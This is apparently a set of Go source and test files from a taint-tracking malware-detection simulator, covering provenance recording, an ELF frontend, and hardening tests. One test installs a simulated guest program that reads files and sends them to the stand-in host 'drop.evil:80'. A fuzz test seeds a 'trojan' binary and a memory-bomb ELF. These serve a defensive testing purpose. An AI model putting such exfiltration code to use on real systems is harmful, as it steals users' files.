	if n := len(w.h.lastApp); n != 0 {
		t.Errorf("lastApp leaked %d entries after faulting child", n)
	}
	if n := len(w.h.natSave); n != 0 {
		t.Errorf("natSave leaked %d entries after faulting child", n)
	}
	if w.h.appCachePID != -1 {
		t.Errorf("appCache still points at PID %d", w.h.appCachePID)
	}
}

// TestTagWidthBudgetKeepsWarnings is the degradation soundness check:
// under an aggressively small tag width budget the taint sets collapse
// to per-type wide sources, yet every warning the unbudgeted run
// raises is still raised — degradation over-approximates (it may add
// warnings by failing trusted-name filters open) but never loses one.
func TestTagWidthBudgetKeepsWarnings(t *testing.T) {
	runIt := func(budget int) ([]secpert.Warning, Stats) {
		os := vos.New(vos.Options{})
		guestlib.InstallInto(os)
		sec := secpert.New(secpert.DefaultConfig(), nil)
		cfg := DefaultConfig()
		cfg.TagWidthBudget = budget
		h := New(cfg, sec)
		w := &world{os: os, h: h, sec: sec}
		w.os.FS.Create("/home/me/notes", []byte("hell"))
		w.os.FS.Create("/home/me/more", []byte("o wo"))
		w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
			return sendNameScript{name: ""}
		})
		// Reads two files into adjacent halves of one buffer and sends
		// all eight bytes: the send event's tag is the union of two
		// FILE sources, wide enough to trip a budget of one.
		w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]: the first file name
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    mov ebx, path2
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf2
    mov edx, 4
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
.data
addr:   .asciz "drop.evil:80"
path2:  .asciz "/home/me/more"
buf:    .space 4
buf2:   .space 4
scargs: .space 12
`)
		w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/home/me/notes"}})
		return w.warnings(), h.Stats()
	}

	base, baseStats := runIt(0)
	tight, tightStats := runIt(1)
	if len(base) == 0 {
		t.Fatal("baseline run raised no warnings")
	}
	if baseStats.TaintWideUnions != 0 {
		t.Error("unbudgeted run degraded sets")
	}
	if tightStats.TaintWideUnions == 0 {
		t.Error("budget-1 run never degraded a set")
	}
	// Bounded width: with budget 1 every interned set holds at most
	// one source per type; the store cannot intern the long mixed
	// sets the baseline does.
	if tightStats.TaintSets > baseStats.TaintSets {
		t.Errorf("budgeted run interned more sets (%d) than baseline (%d)",
			tightStats.TaintSets, baseStats.TaintSets)
	}
	for _, bw := range base {
		found := false
		for _, tw := range tight {
			found = found || tw.Rule == bw.Rule
		}
		if !found {
			t.Errorf("warning from rule %q lost under width budget", bw.Rule)
		}
	}
}
