package harrier

import (
	"fmt"

	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/taint"
	"repro/internal/vos"
)

// Provenance plumbing: when a recorder is attached, every taint source
// receives a stable provenance ID at its entry point (read/recv buffer
// tagging, image maps, CPUID/RDTSC, process input) and accumulates a
// bounded hop list — block-granular register sightings from BOTH
// execution tiers, translation short-circuits, and exit events — that
// renders as the causal chain a warning cites.
//
// Everything here is read-only with respect to taint state: recording
// observes tags, never creates or unions them, which is what keeps
// detections and tag sets bit-identical whether the recorder is
// attached or not (see TestProvenanceDifferentialSweep). Every hot
// path guards with one `h.prov != nil` branch, so a run without
// provenance pays a single predictable compare per site.

// SetProvenance attaches (or with nil detaches) a provenance recorder.
func (h *Harrier) SetProvenance(p *obs.Provenance) {
	h.prov = p
	if p != nil && h.provIDs == nil {
		h.provIDs = make(map[taint.Tag][]obs.ProvID)
	}
}

// Provenance returns the attached recorder (nil when detached).
func (h *Harrier) Provenance() *obs.Provenance { return h.prov }

// provEntryDetail names the synthesized entry hop of a source first
// observed in flight rather than at an explicit tag site.
func provEntryDetail(t taint.SourceType) string {
	switch t {
	case taint.Binary:
		return "image map"
	case taint.Hardware:
		return "hardware"
	case taint.UserInput:
		return "process input"
	case taint.File:
		return "file read"
	case taint.Socket:
		return "socket read"
	}
	return "observed"
}

// provIDsOf resolves (and caches) the provenance IDs of a tag's
// sources, synthesizing an entry hop for sources the recorder has not
// seen at an explicit entry point. Tags are interned per run and
// never reassigned, so the cache needs no invalidation.
func (h *Harrier) provIDsOf(t taint.Tag, now uint64, pid int32) []obs.ProvID {
	if ids, ok := h.provIDs[t]; ok {
		return ids
	}
	srcs := h.Store.Sources(t)
	ids := make([]obs.ProvID, len(srcs))
	for i, s := range srcs {
		id := h.prov.Intern(s.String())
		h.prov.EnsureEntry(id, now, pid, provEntryDetail(s.Type))
		ids[i] = id
	}
	h.provIDs[t] = ids
	return ids
}

// provBlockScan records every source currently live in a register as
// having reached this basic block. Called at block entry from both
// tiers — collectBBFrequency (interpreter) and onBBSummary (summary,
// tier=true) — at the same execution point, so the hop stream is
// tier-independent up to the tier flag.
func (h *Harrier) provBlockScan(c *isa.CPU, now uint64, pid int32, addr uint32, image string, tier bool) {
	for r := isa.EAX; r < isa.NumRegs; r++ {
		t := c.RegTags[r]
		if t == taint.Empty {
			continue
		}
		for _, id := range h.provIDsOf(t, now, pid) {
			h.prov.Block(id, now, pid, addr, image, tier)
		}
	}
}

// provRead records the explicit entry hop of a read/recv that tagged
// guest memory from a descriptor's source.
func (h *Harrier) provRead(p *vos.Process, sc *vos.SyscallCtx, src taint.Source) {
	verb, fdn := "read", sc.FD
	if sc.Sock != nil {
		verb, fdn = "recv", sc.Sock.FD
	}
	id := h.prov.Intern(src.String())
	h.prov.Entry(id, p.OS.Clock, int32(p.PID), fmt.Sprintf("%s fd %d", verb, fdn))
}

// provHardware records the explicit entry of hardware-produced data
// (CPUID/RDTSC outputs).
func (h *Harrier) provHardware(c *isa.CPU, what string) {
	p := procOf(c)
	if p == nil {
		return
	}
	now, pid := p.OS.Clock, int32(p.PID)
	for _, id := range h.provIDsOf(h.hwTag, now, pid) {
		h.prov.Entry(id, now, pid, what)
	}
}

// provXfer records a translation short-circuit (§7.2) carrying a tag
// across a native routine.
func (h *Harrier) provXfer(p *vos.Process, t taint.Tag, name string) {
	now, pid := p.OS.Clock, int32(p.PID)
	for _, id := range h.provIDsOf(t, now, pid) {
		h.prov.Xfer(id, now, pid, name)
	}
}

// provExit records srcs crossing an exit point (write/send/execve/
// connect), described by detail. Recorded before the event reaches
// Secpert so a warning's chain already ends at the exit that fired it.
func (h *Harrier) provExit(p *vos.Process, srcs []taint.Source, detail string) {
	now, pid := p.OS.Clock, int32(p.PID)
	for _, s := range srcs {
		id := h.prov.Intern(s.String())
		h.prov.EnsureEntry(id, now, pid, provEntryDetail(s.Type))
		h.prov.Exit(id, now, pid, detail)
	}
}

// ProvenanceChains renders one causal chain per source, preserving
// source order and skipping sources the recorder never saw. This is
// the resolver Secpert consults at warning time (SetChainResolver).
func (h *Harrier) ProvenanceChains(srcs []taint.Source) []string {
	if h.prov == nil {
		return nil
	}
	var out []string
	for _, s := range srcs {
		if ch, ok := h.prov.ChainOf(s.String()); ok {
			out = append(out, ch)
		}
	}
	return out
}
