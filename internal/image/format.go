package image

import (
	"errors"
	"fmt"
)

// ErrBadImage is the sentinel every structural decode failure wraps: a
// recognized container whose contents are malformed (truncated ELF
// headers, out-of-range section bounds, an unsupported machine class)
// or bytes no registered frontend recognizes at all. Callers branch on
// it with errors.Is to turn a bad upload into a typed rejection
// instead of a crash; compile errors from the text frontend do NOT
// wrap it (a program that fails to assemble is a bad program, not a
// bad container).
var ErrBadImage = errors.New("image: malformed binary image")

// Format is one registered binary frontend: a detector over the raw
// bytes (magic sniffing) and a decoder producing the loadable Image.
// Frontends register at init time; the loader's format-agnostic Open
// entry point consults them in registration order.
type Format struct {
	// Name identifies the frontend ("elf", "asm").
	Name string
	// Detect reports whether the bytes look like this format. It must
	// be cheap (magic bytes, not a full parse) and must never panic.
	Detect func(data []byte) bool
	// Decode parses the bytes into an Image named name. Structural
	// failures wrap ErrBadImage; the text frontend returns its
	// compile diagnostics unwrapped.
	Decode func(name string, data []byte) (*Image, error)
}

// formats holds the registered frontends in registration order. The
// slice is append-only and written only from init functions, so reads
// need no locking.
var formats []Format

// RegisterFormat adds a binary frontend to the detection chain.
// Registration happens from init functions; later registrations are
// consulted after earlier ones.
func RegisterFormat(f Format) {
	if f.Name == "" || f.Detect == nil || f.Decode == nil {
		panic("image: RegisterFormat with incomplete format")
	}
	formats = append(formats, f)
}

// Formats returns the names of the registered frontends in detection
// order.
func Formats() []string {
	out := make([]string, len(formats))
	for i := range formats {
		out[i] = formats[i].Name
	}
	return out
}

// Decode auto-detects the format of data by magic sniffing and decodes
// it into an Image named name. Unrecognized bytes fail with an error
// wrapping ErrBadImage.
func Decode(name string, data []byte) (*Image, error) {
	for i := range formats {
		if formats[i].Detect(data) {
			return formats[i].Decode(name, data)
		}
	}
	return nil, fmt.Errorf("image %s: no registered format recognizes these bytes: %w",
		name, ErrBadImage)
}

// DecodeAs decodes data with the named frontend, bypassing detection;
// used where the caller already knows the format (InstallSource forces
// the text frontend so arbitrary text is never mis-sniffed).
func DecodeAs(format, name string, data []byte) (*Image, error) {
	for i := range formats {
		if formats[i].Name == format {
			return formats[i].Decode(name, data)
		}
	}
	return nil, fmt.Errorf("image %s: no registered format %q: %w", name, format, ErrBadImage)
}
