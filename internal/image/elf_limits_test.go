package image

import (
	"encoding/binary"
	"errors"
	"testing"
)

// testShdr is one synthetic section header for miniELF.
type testShdr struct {
	name, typ, flags, addr, off, size, link uint32
}

// miniELF builds a minimal structurally-valid ELF32 executable: the
// ELF header, a null section, the given sections, and a trailing
// .shstrtab. Name index 1 resolves to ".bss". It exists so the limit
// tests can forge exact header values a real toolchain never emits.
func miniELF(secs ...testShdr) []byte {
	le := binary.LittleEndian
	strtab := []byte("\x00.bss\x00.shstrtab\x00")
	shnum := len(secs) + 2
	shoff := elfEhdrSize
	stroff := shoff + shnum*elfShdrSize
	data := make([]byte, stroff+len(strtab))
	copy(data, ELFMagic)
	data[4] = elfClass32
	data[5] = elfData2LSB
	le.PutUint16(data[16:], elfTypeExec)
	le.PutUint16(data[18:], elfMachine86)
	le.PutUint32(data[32:], uint32(shoff))
	le.PutUint16(data[46:], elfShdrSize)
	le.PutUint16(data[48:], uint16(shnum))
	le.PutUint16(data[50:], uint16(shnum-1))
	all := make([]testShdr, 0, shnum)
	all = append(all, testShdr{}) // mandatory null section
	all = append(all, secs...)
	all = append(all, testShdr{
		name: 6, typ: elfSHTStrtab, off: uint32(stroff), size: uint32(len(strtab)),
	})
	for i, s := range all {
		o := shoff + i*elfShdrSize
		le.PutUint32(data[o:], s.name)
		le.PutUint32(data[o+4:], s.typ)
		le.PutUint32(data[o+8:], s.flags)
		le.PutUint32(data[o+12:], s.addr)
		le.PutUint32(data[o+16:], s.off)
		le.PutUint32(data[o+20:], s.size)
		le.PutUint32(data[o+24:], s.link)
	}
	copy(data[stroff:], strtab)
	return data
}

// TestParseELFAcceptsSmallNobits proves the size caps do not
// over-reject: an ordinary .bss declaration parses cleanly.
func TestParseELFAcceptsSmallNobits(t *testing.T) {
	data := miniELF(testShdr{
		name: 1, typ: elfSHTNobits, flags: elfSHFAlloc | elfSHFWrite,
		addr: 0x08050000, size: 0x1000,
	})
	f, err := ParseELF(data)
	if err != nil {
		t.Fatalf("small .bss rejected: %v", err)
	}
	if got := f.Sections[1].Size; got != 0x1000 {
		t.Errorf("section size = %#x, want 0x1000", got)
	}
}

// TestParseELFRejectsNobitsBomb pins the OOM fix: a SHT_NOBITS section
// declaring gigabytes of memory in a tiny file must fail typed before
// anything is allocated for it, never take the process down.
func TestParseELFRejectsNobitsBomb(t *testing.T) {
	data := miniELF(testShdr{
		name: 1, typ: elfSHTNobits, flags: elfSHFAlloc | elfSHFWrite,
		addr: 0x08050000, size: 0xF0000000, // ~3.75 GiB from a ~300-byte file
	})
	if _, err := ParseELF(data); !errors.Is(err, ErrBadImage) {
		t.Fatalf("want ErrBadImage for NOBITS bomb, got %v", err)
	}
	if _, err := DecodeELF("/bomb", data); !errors.Is(err, ErrBadImage) {
		t.Fatalf("DecodeELF: want ErrBadImage for NOBITS bomb, got %v", err)
	}
}

// TestParseELFRejectsAllocTotalOverCap proves many individually-legal
// sections cannot add up past the whole-image cap.
func TestParseELFRejectsAllocTotalOverCap(t *testing.T) {
	var secs []testShdr
	for i := 0; i < elfMaxImageSize/elfMaxSecSize+1; i++ {
		secs = append(secs, testShdr{
			name: 1, typ: elfSHTNobits, flags: elfSHFAlloc | elfSHFWrite,
			addr: uint32(0x10000000 + i*2*elfMaxSecSize), size: elfMaxSecSize,
		})
	}
	if _, err := ParseELF(miniELF(secs...)); !errors.Is(err, ErrBadImage) {
		t.Fatalf("want ErrBadImage for total over image cap, got %v", err)
	}
}

// TestParseELFRejectsAddressWrap pins the address-space check: a
// section pinned so high that addr+size wraps uint32 must fail at
// parse, not reach the loader with a wrapped end address.
func TestParseELFRejectsAddressWrap(t *testing.T) {
	data := miniELF(testShdr{
		name: 1, typ: elfSHTNobits, flags: elfSHFAlloc | elfSHFWrite,
		addr: 0xFFFFF000, size: 0x2000,
	})
	if _, err := ParseELF(data); !errors.Is(err, ErrBadImage) {
		t.Fatalf("want ErrBadImage for address-space wrap, got %v", err)
	}
}
