package image

import (
	"fmt"

	"repro/internal/x86"
)

// The ELF frontend: parse a 32-bit i386 executable (elf.go), translate
// its executable sections from machine code into the internal ISA
// (internal/x86), and assemble a loadable Image.
//
// Layout contract: data sections are pinned at their link-time virtual
// addresses (Section.Addr), so the absolute data references the
// compiler baked into immediates and displacements remain valid
// without relocation knowledge. Translated text cannot keep its
// addresses (one i386 instruction may expand to several fixed-width
// internal ones), so text sections auto-lay-out and every direct
// branch is emitted as a Reloc against a synthetic section symbol the
// loader rebases — exactly the mechanism in-house images use.

func init() {
	RegisterFormat(Format{
		Name:   "elf",
		Detect: IsELF,
		Decode: DecodeELF,
	})
}

// DecodeELF parses and translates a 32-bit i386 ELF executable into a
// loadable Image named name. Structural failures (parser) and
// out-of-subset machine code (translator) both wrap ErrBadImage.
func DecodeELF(name string, data []byte) (*Image, error) {
	f, err := ParseELF(data)
	if err != nil {
		return nil, err
	}
	im := New(name)
	im.BuildID = f.BuildID

	// Map ELF section index -> Image section index (-1 = not mapped),
	// keeping the per-text-section translation for symbol conversion.
	secMap := make([]int, len(f.Sections))
	trans := make([]*x86.Translation, len(f.Sections))
	for i := range secMap {
		secMap[i] = -1
	}
	var textSecs []int // ELF indices of executable sections, in order
	for i := range f.Sections {
		es := &f.Sections[i]
		if !es.Alloc() || es.Size == 0 {
			continue
		}
		if es.Exec() {
			tr, err := x86.Translate(es.Data, es.Addr)
			if err != nil {
				return nil, fmt.Errorf("elf %s: section %s: %v: %w", name, es.Name, err, ErrBadImage)
			}
			secMap[i] = len(im.Sections)
			trans[i] = tr
			textSecs = append(textSecs, i)
			im.Sections = append(im.Sections, Section{
				Name: es.Name, Kind: Text, Instrs: tr.Instrs,
			})
			continue
		}
		kind := ROData
		if es.Flags&elfSHFWrite != 0 {
			kind = Data
		}
		bytes := es.Data
		if es.Type == elfSHTNobits {
			bytes = make([]byte, es.Size)
		}
		secMap[i] = len(im.Sections)
		im.Sections = append(im.Sections, Section{
			Name: es.Name, Kind: kind, Data: bytes, Addr: es.Addr,
		})
	}
	if len(textSecs) == 0 {
		return nil, fmt.Errorf("elf %s: no executable sections: %w", name, ErrBadImage)
	}

	// Synthetic section symbols anchor branch relocations: one per
	// text section, at internal instruction 0, named after the section
	// (".text"). Real symbols may shadow an offset but not the name —
	// ELF symbol names never start with '.' in practice.
	for _, ei := range textSecs {
		im.Symbols[f.Sections[ei].Name] = Symbol{Section: secMap[ei], Offset: 0}
		for _, instr := range trans[ei].Branches {
			im.Relocs = append(im.Relocs, Reloc{
				Section: secMap[ei], Instr: instr, Slot: SlotA, Symbol: f.Sections[ei].Name,
			})
		}
	}

	// Symbol table: text symbols become instruction indices via the
	// translation's offset map; data symbols become byte offsets.
	// Symbols that do not land on an instruction boundary (alignment
	// padding, mid-instruction labels) are skipped, not fatal.
	for _, sym := range f.Symbols {
		if sym.Name == "" || int(sym.Shndx) >= len(f.Sections) {
			continue
		}
		si := secMap[sym.Shndx]
		if si < 0 {
			continue
		}
		switch sym.Type() {
		case elfSTTFunc, elfSTTObject, 0: // notype: as emits labels as notype
		default:
			continue
		}
		es := &f.Sections[sym.Shndx]
		if tr := trans[sym.Shndx]; tr != nil {
			idx, ok := tr.IndexOf(sym.Value - es.Addr)
			if !ok {
				continue
			}
			im.Symbols[sym.Name] = Symbol{Section: si, Offset: idx}
			continue
		}
		off := sym.Value - es.Addr
		if off > uint32(len(im.Sections[si].Data)) {
			continue
		}
		im.Symbols[sym.Name] = Symbol{Section: si, Offset: int(off)}
	}

	// Entry point: find the executable section containing e_entry and
	// name (or synthesize) its symbol. Candidate names are taken from
	// the symbol table in file order, so the choice is deterministic.
	entryNamed := false
	for _, ei := range textSecs {
		es := &f.Sections[ei]
		if f.Entry < es.Addr || f.Entry >= es.Addr+es.Size {
			continue
		}
		idx, ok := trans[ei].IndexOf(f.Entry - es.Addr)
		if !ok {
			return nil, fmt.Errorf("elf %s: entry %#x inside an instruction: %w", name, f.Entry, ErrBadImage)
		}
		for _, sym := range f.Symbols {
			if sym.Name == "" || int(sym.Shndx) != ei {
				continue
			}
			if s, have := im.Symbols[sym.Name]; have && s.Section == secMap[ei] && s.Offset == idx {
				im.Entry = sym.Name
				entryNamed = true
				break
			}
		}
		if !entryNamed {
			im.Entry = "_start"
			im.Symbols["_start"] = Symbol{Section: secMap[ei], Offset: idx}
			entryNamed = true
		}
		break
	}
	if !entryNamed {
		return nil, fmt.Errorf("elf %s: entry %#x outside every executable section: %w", name, f.Entry, ErrBadImage)
	}

	if err := im.Validate(); err != nil {
		return nil, fmt.Errorf("%v: %w", err, ErrBadImage)
	}
	return im, nil
}
