package image

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

// fixture loads a checked-in ELF fixture binary (built by the real
// GNU toolchain; see internal/corpus/testdata/elf/build.sh).
func fixture(t testing.TB, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "corpus", "testdata", "elf", name))
	if err != nil {
		t.Skipf("fixture %s unavailable: %v", name, err)
	}
	return data
}

// FuzzELFParse is the malformed-upload gate: whatever bytes arrive,
// the ELF frontend must either produce a valid image or fail with a
// typed error wrapping ErrBadImage — it must never panic (a crafted
// upload would take a service worker down) and never return a
// half-decoded image.
func FuzzELFParse(f *testing.F) {
	trojan := func() []byte {
		data, err := os.ReadFile(filepath.Join("..", "corpus", "testdata", "elf", "trojan"))
		if err != nil {
			return nil
		}
		return data
	}()
	if trojan != nil {
		f.Add(trojan)
		f.Add(trojan[:52])            // bare Ehdr
		f.Add(trojan[:len(trojan)/2]) // mid-file truncation
		mut := append([]byte(nil), trojan...)
		mut[0x20] ^= 0xFF // e_shoff
		f.Add(mut)
	}
	f.Add([]byte(ELFMagic))
	f.Add([]byte{})
	// The NOBITS-bomb shape: a tiny file declaring a huge .bss.
	f.Add(miniELF(testShdr{
		name: 1, typ: elfSHTNobits, flags: elfSHFAlloc | elfSHFWrite,
		addr: 0xFFFFF000, size: 0xF0000000,
	}))
	f.Fuzz(func(t *testing.T, data []byte) {
		if !IsELF(data) {
			return
		}
		img, err := DecodeELF("/fuzz", data)
		if err != nil {
			if !errors.Is(err, ErrBadImage) {
				t.Fatalf("structural failure does not wrap ErrBadImage: %v", err)
			}
			return
		}
		if err := img.Validate(); err != nil {
			t.Fatalf("decoded image fails validation: %v", err)
		}
	})
}

// TestDecodeELFFixtures pins the happy path on the real binaries.
func TestDecodeELFFixtures(t *testing.T) {
	for _, name := range []string{"trojan", "benign"} {
		data := fixture(t, name)
		img, err := Decode("/bin/"+name, data)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if !img.HasEntry() {
			t.Errorf("%s: no entry symbol", name)
		}
		if img.Section(".text") == nil {
			t.Errorf("%s: no .text section", name)
		}
		if _, ok := img.Symbols["_start"]; !ok {
			t.Errorf("%s: _start missing from symbol table", name)
		}
	}
}

// TestDecodeELFTruncations sweeps every prefix of a real binary: all
// must fail typed (or decode, for prefixes that happen to stay
// structurally whole) without panicking.
func TestDecodeELFTruncations(t *testing.T) {
	data := fixture(t, "trojan")
	for n := 0; n < len(data); n += 7 {
		if _, err := DecodeELF("/trunc", data[:n]); err != nil && !errors.Is(err, ErrBadImage) {
			t.Fatalf("len %d: error does not wrap ErrBadImage: %v", n, err)
		}
	}
}
