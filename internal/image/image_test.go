package image

import (
	"strings"
	"testing"

	"repro/internal/isa"
)

func validImage() *Image {
	im := New("/bin/x")
	im.Sections = []Section{
		{Name: ".text", Kind: Text, Instrs: []isa.Instr{{Op: isa.HLT}}},
		{Name: ".data", Kind: Data, Data: []byte{1, 2, 3, 4}},
	}
	im.Symbols["_start"] = Symbol{Section: 0, Offset: 0}
	im.Symbols["d"] = Symbol{Section: 1, Offset: 0}
	im.Entry = "_start"
	return im
}

func TestValidateOK(t *testing.T) {
	if err := validImage().Validate(); err != nil {
		t.Fatal(err)
	}
}

func TestValidateBadSymbolSection(t *testing.T) {
	im := validImage()
	im.Symbols["bad"] = Symbol{Section: 9, Offset: 0}
	if err := im.Validate(); err == nil || !strings.Contains(err.Error(), "bad") {
		t.Errorf("err = %v", err)
	}
}

func TestValidateBadSymbolOffset(t *testing.T) {
	im := validImage()
	im.Symbols["bad"] = Symbol{Section: 0, Offset: 5}
	if err := im.Validate(); err == nil {
		t.Error("no error for out-of-range offset")
	}
	// Offset == limit is allowed (end labels).
	im2 := validImage()
	im2.Symbols["end"] = Symbol{Section: 1, Offset: 4}
	if err := im2.Validate(); err != nil {
		t.Errorf("end label rejected: %v", err)
	}
}

func TestValidateBadReloc(t *testing.T) {
	im := validImage()
	im.Relocs = []Reloc{{Section: 1, Instr: 0, Symbol: "d"}} // data section
	if err := im.Validate(); err == nil {
		t.Error("reloc into data section accepted")
	}
	im2 := validImage()
	im2.Relocs = []Reloc{{Section: 0, Instr: 5, Symbol: "d"}}
	if err := im2.Validate(); err == nil {
		t.Error("reloc instr out of range accepted")
	}
}

func TestValidateBadDataReloc(t *testing.T) {
	im := validImage()
	im.DataRels = []DataReloc{{Section: 1, Offset: 2, Symbol: "d"}} // 2+4 > 4
	if err := im.Validate(); err == nil {
		t.Error("data reloc overrun accepted")
	}
}

func TestValidateMissingEntry(t *testing.T) {
	im := validImage()
	im.Entry = "nope"
	if err := im.Validate(); err == nil || !strings.Contains(err.Error(), "nope") {
		t.Errorf("err = %v", err)
	}
}

func TestValidateNativeIndex(t *testing.T) {
	im := validImage()
	im.Sections[0].Instrs = []isa.Instr{{Op: isa.NATIVE, Native: 0}}
	if err := im.Validate(); err == nil {
		t.Error("unbound native accepted")
	}
	im.Natives = []string{"fn"}
	if err := im.Validate(); err != nil {
		t.Errorf("bound native rejected: %v", err)
	}
}

func TestSectionLookupAndSize(t *testing.T) {
	im := validImage()
	if im.Section(".text") == nil || im.Section(".data") == nil {
		t.Error("Section lookup failed")
	}
	if im.Section(".bss") != nil {
		t.Error("found nonexistent section")
	}
	if got := im.Sections[0].Size(); got != isa.InstrSize {
		t.Errorf("text size = %d", got)
	}
	if got := im.Sections[1].Size(); got != 4 {
		t.Errorf("data size = %d", got)
	}
	if im.Size() != isa.InstrSize+4 {
		t.Errorf("image size = %d", im.Size())
	}
}

func TestTextSymbols(t *testing.T) {
	im := validImage()
	syms := im.TextSymbols(0)
	if syms[0] != "_start" {
		t.Errorf("TextSymbols = %v", syms)
	}
	if _, ok := syms[1]; ok {
		t.Error("data symbol leaked into text symbols")
	}
}

func TestSectionKindString(t *testing.T) {
	if Text.String() != "text" || Data.String() != "data" || ROData.String() != "rodata" {
		t.Error("kind strings wrong")
	}
}
