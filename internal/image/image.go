// Package image defines the synthetic binary format used by the HTH
// simulator in place of ELF: named sections of code or data, a symbol
// table, relocations, imported shared objects and named native
// routines. The loader (internal/loader) maps images into a process,
// applying the BINARY data source to every mapped byte (paper §7.3.2:
// "when the data is being read from a binary and mapped to memory,
// Harrier will tag that data with the BINARY data source").
package image

import (
	"fmt"

	"repro/internal/isa"
)

// SectionKind distinguishes executable from data sections.
type SectionKind uint8

// Section kinds.
const (
	Text SectionKind = iota
	Data
	ROData
)

// String names the section kind.
func (k SectionKind) String() string {
	switch k {
	case Text:
		return "text"
	case Data:
		return "data"
	case ROData:
		return "rodata"
	}
	return "?"
}

// Section is one contiguous region of an image: instructions for Text
// sections, raw bytes otherwise.
type Section struct {
	Name   string
	Kind   SectionKind
	Instrs []isa.Instr // Text only
	Data   []byte      // Data/ROData only
	// Addr, when non-zero, pins the section at a fixed guest address
	// instead of the loader's contiguous auto-layout. The ELF frontend
	// pins data sections at their link-time virtual addresses so
	// absolute data references in translated code stay valid; the
	// in-house text frontend always auto-lays-out (Addr == 0).
	Addr uint32
}

// Size returns the section's size in guest address units.
func (s *Section) Size() uint32 {
	if s.Kind == Text {
		return uint32(len(s.Instrs)) * isa.InstrSize
	}
	return uint32(len(s.Data))
}

// Symbol locates a named entity: instruction index for text symbols,
// byte offset for data symbols.
type Symbol struct {
	Section int // index into Image.Sections
	Offset  int // instruction index (text) or byte offset (data)
}

// OperandSlot selects which operand of an instruction a relocation
// patches.
type OperandSlot uint8

// Operand slots.
const (
	SlotA OperandSlot = iota
	SlotB
)

// Reloc records a symbolic reference inside a text section: the
// loader adds the symbol's runtime address to the operand's Imm field.
type Reloc struct {
	Section int
	Instr   int
	Slot    OperandSlot
	Symbol  string
}

// DataReloc records a symbolic word inside a data section (.word sym):
// the loader stores the symbol's runtime address at the offset.
type DataReloc struct {
	Section int
	Offset  int
	Symbol  string
	Addend  uint32
}

// Image is one loadable binary: an executable or a shared object.
type Image struct {
	Name     string // path identity, e.g. "/bin/ls" or "libc.so"
	Entry    string // entry symbol for executables (usually "_start")
	Sections []Section
	Symbols  map[string]Symbol
	Relocs   []Reloc
	DataRels []DataReloc
	Imports  []string // shared objects this image needs, e.g. "libc.so"
	Natives  []string // native routine names, indexed by Instr.Native
	// BuildID is the toolchain-stamped identity of the binary (the hex
	// NT_GNU_BUILD_ID for ELF images; empty for in-house images).
	BuildID string
}

// New returns an empty image with the given name.
func New(name string) *Image {
	return &Image{Name: name, Symbols: make(map[string]Symbol)}
}

// Validate checks internal consistency: symbol and relocation targets
// in range, entry symbol present when set, native indices bound.
func (im *Image) Validate() error {
	for name, sym := range im.Symbols {
		if sym.Section < 0 || sym.Section >= len(im.Sections) {
			return fmt.Errorf("image %s: symbol %q references section %d of %d",
				im.Name, name, sym.Section, len(im.Sections))
		}
		sec := &im.Sections[sym.Section]
		limit := len(sec.Data)
		if sec.Kind == Text {
			limit = len(sec.Instrs)
		}
		if sym.Offset < 0 || sym.Offset > limit {
			return fmt.Errorf("image %s: symbol %q offset %d out of range",
				im.Name, name, sym.Offset)
		}
	}
	for _, r := range im.Relocs {
		if r.Section < 0 || r.Section >= len(im.Sections) ||
			im.Sections[r.Section].Kind != Text ||
			r.Instr < 0 || r.Instr >= len(im.Sections[r.Section].Instrs) {
			return fmt.Errorf("image %s: bad relocation %+v", im.Name, r)
		}
	}
	for _, r := range im.DataRels {
		if r.Section < 0 || r.Section >= len(im.Sections) ||
			im.Sections[r.Section].Kind == Text ||
			r.Offset < 0 || r.Offset+4 > len(im.Sections[r.Section].Data) {
			return fmt.Errorf("image %s: bad data relocation %+v", im.Name, r)
		}
	}
	if im.Entry != "" {
		if _, ok := im.Symbols[im.Entry]; !ok {
			return fmt.Errorf("image %s: entry symbol %q undefined", im.Name, im.Entry)
		}
	}
	for secIdx := range im.Sections {
		sec := &im.Sections[secIdx]
		if sec.Kind != Text {
			continue
		}
		for i, in := range sec.Instrs {
			if in.Op == isa.NATIVE && (in.Native < 0 || in.Native >= len(im.Natives)) {
				return fmt.Errorf("image %s: instruction %d native index %d out of range",
					im.Name, i, in.Native)
			}
		}
	}
	return nil
}

// HasEntry reports whether the image defines its entry symbol (Entry,
// defaulting to "_start") — i.e. whether it can start a process.
func (im *Image) HasEntry() bool {
	entry := im.Entry
	if entry == "" {
		entry = "_start"
	}
	_, ok := im.Symbols[entry]
	return ok
}

// Section returns the named section, or nil.
func (im *Image) Section(name string) *Section {
	for i := range im.Sections {
		if im.Sections[i].Name == name {
			return &im.Sections[i]
		}
	}
	return nil
}

// TextSymbols returns instruction-index -> name maps per text section,
// used by the loader to label spans for disassembly and routine hooks.
// When several symbols share an offset (the ELF frontend's synthetic
// ".text" section symbol aliases the first real label) the winner is
// deterministic: real names beat dot-prefixed section names, then the
// lexicographically smaller name wins.
func (im *Image) TextSymbols(section int) map[int]string {
	out := map[int]string{}
	for name, sym := range im.Symbols {
		if sym.Section != section {
			continue
		}
		if cur, taken := out[sym.Offset]; taken && !preferName(name, cur) {
			continue
		}
		out[sym.Offset] = name
	}
	return out
}

// preferName reports whether a should displace b as the display name
// for a shared symbol offset.
func preferName(a, b string) bool {
	aDot := len(a) > 0 && a[0] == '.'
	bDot := len(b) > 0 && b[0] == '.'
	if aDot != bDot {
		return bDot
	}
	return a < b
}

// Size returns the total mapped size of the image.
func (im *Image) Size() uint32 {
	var n uint32
	for i := range im.Sections {
		n += im.Sections[i].Size()
	}
	return n
}
