package image

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
)

